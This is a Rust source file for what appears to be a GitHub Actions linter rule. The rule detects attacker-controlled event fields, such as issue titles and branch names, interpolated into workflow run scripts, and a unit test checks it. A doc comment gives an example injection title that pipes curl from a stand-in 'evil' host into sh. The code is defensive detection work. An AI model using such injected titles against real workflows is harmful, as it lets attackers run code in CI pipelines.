//! `untrusted-input-in-run`: an attacker-controlled event field (`github.event.issue.title`,
//! `github.head_ref`, ...) interpolated with `${{ }}` into a `run:` script or a
//! `actions/github-script` script. The expression is pasted into the script before it runs,
//! so a title like `"; curl evil | sh #` is code.

use crate::ctx::FileCtx;
use crate::formats::workflow::{step_uses, steps};
use crate::formats::yaml::{get, position, text};
use crate::out::Hit;
use regex::Regex;
use saphyr::MarkedYaml;
use std::sync::LazyLock;

static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"\$\{\{[^}]*?\b(github\.(?:head_ref|event\.(?:",
        r"issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)",
        r"|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)",
        r"|pages\.[^}\s]*\.page_name|commits\.[^}\s]*\.(?:message|author\.(?:email|name))",
        r"|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.message|display_title)",
        r")))[^}]*\}\}"
    ))
    .expect("valid")
});

/// An untrusted field interpolated into a script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UntrustedInput {
    pub line: u32,
    pub column: u32,
    /// The field, `github.event.issue.title`.
    pub field: String,
    /// The whole `${{ ... }}` expression.
    pub expression: String,
}

/// The file is needed to place each expression on its own line of a block script.
pub fn find(file: &FileCtx<'_>, doc: &MarkedYaml<'_>) -> Vec<UntrustedInput> {
    let mut out = Vec::new();
    for step in steps(doc) {
        let script = get(step, "run").or_else(|| {
            let gh_script =
                step_uses(step).is_some_and(|u| u.starts_with("actions/github-script@"));
            gh_script
                .then(|| get(step, "with").and_then(|w| get(w, "script")))
                .flatten()
        });
        let Some(node) = script else { continue };
        let Some(body) = text(node) else { continue };
        let start = position(node);
        for caps in UNTRUSTED.captures_iter(body) {
            let expression = caps.get(0).expect("whole match").as_str();
            let (line, column) = locate(file, start.0, expression).unwrap_or(start);
            out.push(UntrustedInput {
                line,
                column,
                field: caps[1].to_string(),
                expression: expression.to_string(),
            });
        }
    }
    out
}

/// The line and column of `needle` at or after `from_line`: scalar spans point at the key's
/// value, but a block script's expression sits some lines below.
fn locate(file: &FileCtx<'_>, from_line: u32, needle: &str) -> Option<(u32, u32)> {
    let start = file
        .text
        .lines()
        .take(from_line.saturating_sub(1) as usize)
        .map(|l| l.len() + 1)
        .sum::<usize>();
    let offset = start + file.text.get(start..)?.find(needle)?;
    Some(file.line_col(offset))
}

impl UntrustedInput {
    pub fn hit(&self, file: &FileCtx<'_>) -> Hit {
        file.hit(self.line, self.column)
            .arg("field", self.field.as_str())
            .matched(self.expression.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn titles_in_block_scripts_are_found_at_their_own_line_numbers_are_not() {
        let wf = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: |\n          echo start\n          echo \"${{ github.event.pull_request.title }}\"\n          echo \"${{ github.event.pull_request.number }}\"\n      - uses: actions/github-script@v7\n        with:\n          script: console.log(\"${{ github.head_ref }}\")\n";
        let file = FileCtx::new(".github/workflows/ci.yml", wf);
        let docs = crate::formats::workflow::parse(wf).unwrap();
        let found: Vec<(u32, u32, String)> = find(&file, &docs[0])
            .into_iter()
            .map(|u| (u.line, u.column, u.field))
            .collect();
        assert_eq!(
            found,
            vec![
                (7, 17, "github.event.pull_request.title".into()),
                (11, 32, "github.head_ref".into())
            ]
        );
    }
}
